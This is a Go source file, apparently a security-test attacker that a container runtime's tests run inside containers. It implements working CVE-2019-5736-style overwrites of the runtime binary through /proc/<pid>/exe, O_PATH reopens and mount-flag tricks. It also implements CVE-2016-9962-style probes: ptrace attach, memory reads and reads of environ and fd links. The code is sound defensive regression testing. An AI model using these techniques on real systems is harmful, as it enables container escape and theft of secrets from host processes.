// binattack is the attacker that tests/security/binary_*_test.go run
// inside containers (static, no cgo). It watches /proc of its PID namespace
// and attacks every runtime process it finds; what it tried and what the
// kernel answered goes to REPORT/log as JSON lines, one per target.
//
//	binattack exe REPORT [FILTER]
//
// CVE-2019-5736 class: for each process that runs the runtime's binary
// (argv[0] "/proc/self/exe" after a `#!/proc/self/exe` script, or "nsrun"
// / "runc"), open /proc/<pid>/exe for writing while it runs; keep an O_PATH
// handle on it and reopen that (/proc/self/fd/N) for writing once the
// process is gone; try to make the mount it lives on writable again
// (mount_setattr, open_tree clone, bind mount + remount). Every successful
// write appends a marker to the binary. FILTER, when given, limits the
// targets to processes whose cgroup or command line contains it (for a
// watcher in the host's PID namespace).
//
//	binattack ptrace REPORT
//
// CVE-2016-9962 class: for each other process in the PID namespace (the
// process joining the container), try PTRACE_ATTACH, process_vm_readv,
// /proc/<pid>/mem, environ, fd/*, exe, root, cwd.
//
// REPORT/ready is created once the watcher runs, REPORT/caught.<pid> once a
// target was attacked, REPORT/done.<pid> once the attack on a handle taken
// on its exe is done after its exit; REPORT/stop ends the watcher.
package main

import (
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"runtime"
	"strconv"
	"strings"
	"syscall"
	"time"

	"golang.org/x/sys/unix"
)

// Marker is what a successful write appends to the binary.
const Marker = "\nBINATTACK-WAS-HERE\n"

// Record is one target and what each attempt returned: "ok" (or "WROTE"
// for a write that reached the file) or the error.
type Record struct {
	Mode     string            `json:"mode"`
	Pid      int               `json:"pid"`
	Argv     []string          `json:"argv"`
	Comm     string            `json:"comm"`
	Attempts map[string]string `json:"attempts"`
}

var report string

func main() {
	if len(os.Args) < 3 {
		fmt.Fprintln(os.Stderr, "usage: binattack exe|ptrace REPORT [FILTER]")
		os.Exit(2)
	}
	report = os.Args[2]
	filter := ""
	if len(os.Args) > 3 {
		filter = os.Args[3]
	}
	touch("ready")
	switch os.Args[1] {
	case "exe":
		watchExe(filter)
	case "ptrace":
		watchPtrace()
	default:
		os.Exit(2)
	}
}

func touch(name string) { os.WriteFile(filepath.Join(report, name), nil, 0o644) }

func stopped() bool {
	_, err := os.Stat(filepath.Join(report, "stop"))
	return err == nil
}

func save(r *Record) {
	data, _ := json.Marshal(r)
	f, err := os.OpenFile(filepath.Join(report, "log"), os.O_WRONLY|os.O_APPEND|os.O_CREATE, 0o644)
	if err != nil {
		fmt.Fprintln(os.Stderr, "binattack:", err)
		return
	}
	f.Write(append(data, '\n'))
	f.Close()
}

func errText(err error) string {
	if err == nil {
		return "ok"
	}
	var en syscall.Errno
	if errors.As(err, &en) {
		return unix.ErrnoName(en)
	}
	return err.Error()
}

// pids lists the processes of our PID namespace but us (and our pid 1 if
// that is us).
func pids() []int {
	ents, _ := os.ReadDir("/proc")
	var out []int
	for _, e := range ents {
		pid, err := strconv.Atoi(e.Name())
		if err == nil && pid != os.Getpid() {
			out = append(out, pid)
		}
	}
	return out
}

func argv(pid int) []string {
	data, _ := os.ReadFile(fmt.Sprintf("/proc/%d/cmdline", pid))
	data = bytes.TrimRight(data, "\x00")
	if len(data) == 0 {
		return nil
	}
	return strings.Split(string(data), "\x00")
}

func comm(pid int) string {
	data, _ := os.ReadFile(fmt.Sprintf("/proc/%d/comm", pid))
	return strings.TrimSpace(string(data))
}

// gone: no such process any more, or a zombie (its memory, and with it its
// hold on the executable, is released at exit).
func gone(pid int) bool {
	data, err := os.ReadFile(fmt.Sprintf("/proc/%d/stat", pid))
	if err != nil {
		return true
	}
	s := string(data)
	i := strings.LastIndexByte(s, ')')
	return i < 0 || i+2 >= len(s) || s[i+2] == 'Z' || s[i+2] == 'X'
}

// writeThrough opens path for writing (appending) and writes the marker.
func writeThrough(path string) string {
	f, err := os.OpenFile(path, os.O_WRONLY|os.O_APPEND, 0)
	if err != nil {
		return "open: " + errText(err)
	}
	defer f.Close()
	if _, err := f.Write([]byte(Marker)); err != nil {
		return "opened, write: " + errText(err)
	}
	return "WROTE"
}

type pending struct {
	rec  *Record
	fd   int
	done bool
}

func isRuntime(a []string) bool {
	if len(a) == 0 {
		return false
	}
	base := filepath.Base(a[0])
	return a[0] == "/proc/self/exe" || base == "nsrun" || base == "runc" || strings.HasPrefix(base, "runc:")
}

func matches(pid int, a []string, filter string) bool {
	if filter == "" {
		return true
	}
	cg, _ := os.ReadFile(fmt.Sprintf("/proc/%d/cgroup", pid))
	return strings.Contains(string(cg), filter) || strings.Contains(strings.Join(a, " "), filter)
}

func watchExe(filter string) {
	seen := map[string]bool{}
	var waiting []*pending
	for {
		for _, pid := range pids() {
			a := argv(pid)
			if !isRuntime(a) || !matches(pid, a, filter) {
				continue
			}
			key := fmt.Sprintf("%d\x00%s", pid, a[0])
			if seen[key] {
				continue
			}
			seen[key] = true
			waiting = append(waiting, attackExe(pid, a))
		}
		for _, p := range waiting {
			if p.done || !gone(p.rec.Pid) {
				continue
			}
			p.done = true
			if p.fd < 0 {
				continue
			}
			// The classic: the handle taken while it ran, reopened for
			// writing once nothing executes the file any more (the
			// runtime's own processes may run the same file a little
			// longer: retry while it is busy).
			self := fmt.Sprintf("/proc/self/fd/%d", p.fd)
			res := writeThrough(self)
			for deadline := time.Now().Add(5 * time.Second); res == "open: ETXTBSY" && time.Now().Before(deadline); {
				time.Sleep(time.Millisecond)
				res = writeThrough(self)
			}
			p.rec.Attempts["reopen-opath-after-exit"] = res
			unix.Close(p.fd)
			save(p.rec)
			touch(fmt.Sprintf("done.%d", p.rec.Pid))
		}
		if stopped() {
			return
		}
		time.Sleep(500 * time.Microsecond)
	}
}

func attackExe(pid int, a []string) *pending {
	exe := fmt.Sprintf("/proc/%d/exe", pid)
	rec := &Record{Mode: "exe", Pid: pid, Argv: a, Comm: comm(pid), Attempts: map[string]string{}}
	p := &pending{rec: rec, fd: -1}
	link, err := os.Readlink(exe)
	if err != nil {
		rec.Attempts["readlink-exe"] = errText(err)
	} else {
		rec.Attempts["readlink-exe"] = "ok: " + link
	}
	rec.Attempts["open-exe-for-writing-while-running"] = writeThrough(exe)
	fd, err := unix.Open(exe, unix.O_PATH|unix.O_CLOEXEC, 0)
	rec.Attempts["open-exe-opath"] = errText(err)
	if err == nil {
		p.fd = fd
		remount(rec, fd)
	}
	// Logged now as well: a watcher that dies with the target's PID
	// namespace still leaves this.
	save(rec)
	touch(fmt.Sprintf("caught.%d", pid))
	return p
}

// remount tries to get the file's mount (or a copy of it) writable.
func remount(rec *Record, fd int) {
	self := fmt.Sprintf("/proc/self/fd/%d", fd)
	clr := &unix.MountAttr{Attr_clr: unix.MOUNT_ATTR_RDONLY}
	err := unix.MountSetattr(fd, "", unix.AT_EMPTY_PATH, clr)
	rec.Attempts["mount_setattr-clear-rdonly"] = errText(err)
	if err == nil {
		rec.Attempts["write-after-mount_setattr"] = writeThrough(self)
	}
	tree, err := unix.OpenTree(fd, "", unix.AT_EMPTY_PATH|unix.OPEN_TREE_CLONE|unix.OPEN_TREE_CLOEXEC)
	rec.Attempts["open_tree-clone"] = errText(err)
	if err == nil {
		rec.Attempts["open_tree-clone-clear-rdonly"] = errText(unix.MountSetattr(tree, "", unix.AT_EMPTY_PATH, clr))
		rec.Attempts["write-through-clone"] = writeThrough(fmt.Sprintf("/proc/self/fd/%d", tree))
		unix.Close(tree)
	}
	target := "/dev/binattack-target"
	os.WriteFile(target, nil, 0o600)
	err = unix.Mount(self, target, "", unix.MS_BIND, "")
	rec.Attempts["bind-mount"] = errText(err)
	if err == nil {
		rec.Attempts["remount-bind-rw"] = errText(unix.Mount("", target, "", unix.MS_REMOUNT|unix.MS_BIND, ""))
		rec.Attempts["write-through-bind"] = writeThrough(target)
		unix.Unmount(target, unix.MNT_DETACH)
	}
}

func watchPtrace() {
	seen := map[int]bool{}
	for !stopped() {
		for _, pid := range pids() {
			if pid == 1 || seen[pid] {
				continue
			}
			seen[pid] = true
			attackPtrace(pid)
		}
		time.Sleep(500 * time.Microsecond)
	}
}

func attackPtrace(pid int) {
	rec := &Record{Mode: "ptrace", Pid: pid, Argv: argv(pid), Comm: comm(pid), Attempts: map[string]string{}}
	proc := fmt.Sprintf("/proc/%d/", pid)

	rec.Attempts["ptrace-attach"] = ptraceAttach(pid)

	addr := uintptr(0x400000)
	if maps, err := os.ReadFile(proc + "maps"); err == nil {
		if f := strings.SplitN(string(maps), "-", 2); len(f) == 2 {
			if v, err := strconv.ParseUint(f[0], 16, 64); err == nil {
				addr = uintptr(v)
			}
		}
	}
	buf := make([]byte, 16)
	n, err := unix.ProcessVMReadv(pid, []unix.Iovec{{Base: &buf[0], Len: uint64(len(buf))}},
		[]unix.RemoteIovec{{Base: addr, Len: len(buf)}}, 0)
	if err == nil {
		rec.Attempts["process_vm_readv"] = fmt.Sprintf("ok: %d bytes", n)
	} else {
		rec.Attempts["process_vm_readv"] = errText(err)
	}

	if f, err := os.Open(proc + "mem"); err != nil {
		rec.Attempts["open-mem"] = errText(err)
	} else {
		_, err := f.ReadAt(buf, int64(addr))
		rec.Attempts["open-mem"] = "ok, read: " + errText(err)
		f.Close()
	}

	if data, err := os.ReadFile(proc + "environ"); err != nil {
		rec.Attempts["read-environ"] = errText(err)
	} else {
		rec.Attempts["read-environ"] = "ok: " + strings.ReplaceAll(string(data), "\x00", " ")
	}

	// The listing of fd/ shows numbers only; what matters is reaching the
	// files behind them.
	ents, err := os.ReadDir(proc + "fd")
	rec.Attempts["list-fd"] = errText(err)
	if err == nil {
		var links, opens []string
		for _, e := range ents {
			l, err := os.Readlink(proc + "fd/" + e.Name())
			if err == nil {
				l = "ok: " + l
			} else {
				l = errText(err)
			}
			links = append(links, e.Name()+"="+l)
			fd, err := unix.Open(proc+"fd/"+e.Name(), unix.O_PATH|unix.O_CLOEXEC, 0)
			if err == nil {
				unix.Close(fd)
			}
			opens = append(opens, e.Name()+"="+errText(err))
		}
		rec.Attempts["readlink-fd"] = strings.Join(links, ",")
		rec.Attempts["open-fd"] = strings.Join(opens, ",")
	}
	for _, name := range []string{"exe", "root", "cwd"} {
		fd, err := unix.Open(proc+name, unix.O_PATH|unix.O_CLOEXEC, 0)
		if err == nil {
			unix.Close(fd)
		}
		rec.Attempts["open-"+name] = errText(err)
	}
	save(rec)
	touch(fmt.Sprintf("caught.%d", pid))
}

// ptraceAttach attaches, waits for the stop, and detaches again at once (a
// weak runtime's helper then simply goes on).
func ptraceAttach(pid int) string {
	runtime.LockOSThread()
	defer runtime.UnlockOSThread()
	if err := unix.PtraceAttach(pid); err != nil {
		return errText(err)
	}
	var ws unix.WaitStatus
	_, werr := unix.Wait4(pid, &ws, unix.WALL, nil)
	regs := &unix.PtraceRegs{}
	rerr := unix.PtraceGetRegs(pid, regs)
	unix.PtraceDetach(pid)
	return fmt.Sprintf("ok (attached; wait: %s; getregs: %s, rip %#x)", errText(werr), errText(rerr), regs.PC())
}
